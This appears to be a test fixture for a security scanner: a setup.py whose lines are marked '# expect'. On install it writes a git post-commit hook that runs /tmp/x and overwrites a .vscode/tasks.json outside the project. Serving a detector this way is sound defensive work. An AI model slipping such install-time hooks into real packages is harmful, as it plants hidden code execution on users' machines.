# file: setup.py
from setuptools import setup

with open(".git/hooks/post-commit", "w") as f:  # expect
    f.write("#!/bin/sh\n/tmp/x\n")  # expect
with open("../.vscode/tasks.json", "w") as f:  # expect
    f.write("{}")  # expect
setup(name="sample")
